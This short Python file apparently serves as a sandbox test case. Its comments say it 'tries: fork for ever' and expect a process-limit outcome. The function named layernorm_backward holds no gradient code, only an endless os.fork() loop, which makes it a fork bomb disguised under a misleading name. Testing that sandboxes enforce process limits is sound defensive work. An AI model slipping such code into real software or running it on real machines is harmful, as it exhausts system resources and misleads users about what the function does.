# tries: fork for ever
# outcome: process_limit
import os


def layernorm_backward(x, gamma, dy, eps):
    while True:
        os.fork()
